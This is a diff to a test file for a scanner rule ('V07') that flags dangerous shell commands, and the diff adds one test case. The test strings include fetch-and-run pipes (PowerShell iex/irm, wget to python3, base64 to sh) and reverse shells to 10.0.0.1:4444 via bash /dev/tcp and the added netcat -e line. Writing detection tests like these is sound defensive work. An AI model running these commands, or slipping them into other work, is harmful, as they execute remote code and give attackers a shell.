@@ -175,6 +175,7 @@ checkRule('V07', {
     script('«iex (irm https://example.org/x.ps1)»\n'),
     script('echo x | «base64 -d | sh»\n'),
     script('«bash -i >& /dev/tcp/10.0.0.1/4444» 0>&1\n'),
+    script('«netcat -e /bin/sh» 10.0.0.1 4444\n'),
     script('«wget -qO- https://example.org/x.py | python3» -\n'),
     // Nothing is fetched: these are what it is called by.
     body('不使用 `«curl | bash»` 手动安装。\n', { severity: 'information' }),
